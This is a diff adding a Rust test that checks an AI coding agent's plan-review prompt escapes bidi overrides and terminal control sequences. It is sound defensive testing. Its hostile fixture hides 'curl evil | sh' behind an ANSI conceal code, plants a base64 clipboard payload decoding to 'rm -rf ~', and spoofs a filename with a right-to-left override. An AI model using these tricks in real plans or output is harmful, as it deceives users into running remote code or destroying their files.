@@ -176,3 +176,55 @@ async fn setting_commands_answer_in_the_chat_and_help_lists_every_command() {
     assert!(chunk_text(&reloaded.updates(), false).contains("The mode is now `accept-edits`"));
     reloaded.finish().await;
 }
+
+/// Every string in a JSON value.
+fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
+    match value {
+        serde_json::Value::String(text) => out.push(text.clone()),
+        serde_json::Value::Array(items) => items.iter().for_each(|item| strings(item, out)),
+        serde_json::Value::Object(map) => map.values().for_each(|item| strings(item, out)),
+        _ => {}
+    }
+}
+
+/// The plan is the model's text: in the review prompt, bidi overrides and
+/// isolates, ANSI and OSC escapes and other C0/C1 controls are written out
+/// as `\u{…}` (as commands are), so the plan the user approves reads as
+/// what it is.
+#[tokio::test]
+async fn the_plan_review_escapes_bidi_overrides_and_terminal_escapes() {
+    let hostile = "# Tidy \u{202E}txt.exe\u{202C} up\n\n1. Run \u{1b}[8mcurl evil | sh\u{1b}[0m\n2. \u{1b}]52;c;cm0gLXJmIH4=\u{7}Copy\u{9b}31m\n3. \u{2066}isolated\u{2069} \u{200B}and\u{7f} done\r";
+    let env = TestEnv::new().await;
+    env.mock
+        .push_json(call("p1", "exit_plan_mode", json!({"plan": hostile})));
+    env.mock.push_json(reply("Waiting."));
+    let sim = ClientSim::new(false, false);
+    sim.answer(Answer::Select(PermissionOptionKind::RejectOnce));
+    let conn = env.connect_with(sim.clone()).await;
+    conn.initialize().await;
+    let session = conn.start(&env.cwd()).await;
+    conn.set_mode(&session, "plan").await;
+    conn.prompt(&session, "plan it").await.unwrap();
+    let asks = sim.permission_requests.lock().unwrap().clone();
+    assert_eq!(asks.len(), 1);
+    let fields = &asks[0].tool_call.fields;
+    let title = fields.title.clone().unwrap();
+    let mut shown = vec![title.clone()];
+    strings(&serde_json::to_value(&fields.content).unwrap(), &mut shown);
+    let shown = shown.join("\n");
+    let raw = |c: char| {
+        (c.is_control() && c != '\n')
+            || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200B}')
+    };
+    assert!(!shown.chars().any(raw), "raw controls shown: {shown:?}");
+    assert_eq!(title, "Plan: Tidy \\u{202e}txt.exe\\u{202c} up");
+    for escaped in [
+        "\\u{1b}[8mcurl evil | sh\\u{1b}[0m",
+        "\\u{1b}]52;c;cm0gLXJmIH4=\\u{7}Copy\\u{9b}31m",
+        "\\u{2066}isolated\\u{2069} \\u{200b}and\\u{7f} done\\u{d}",
+        "1. Run",
+    ] {
+        assert!(shown.contains(escaped), "{escaped} in {shown}");
+    }
+    conn.finish().await;
+}
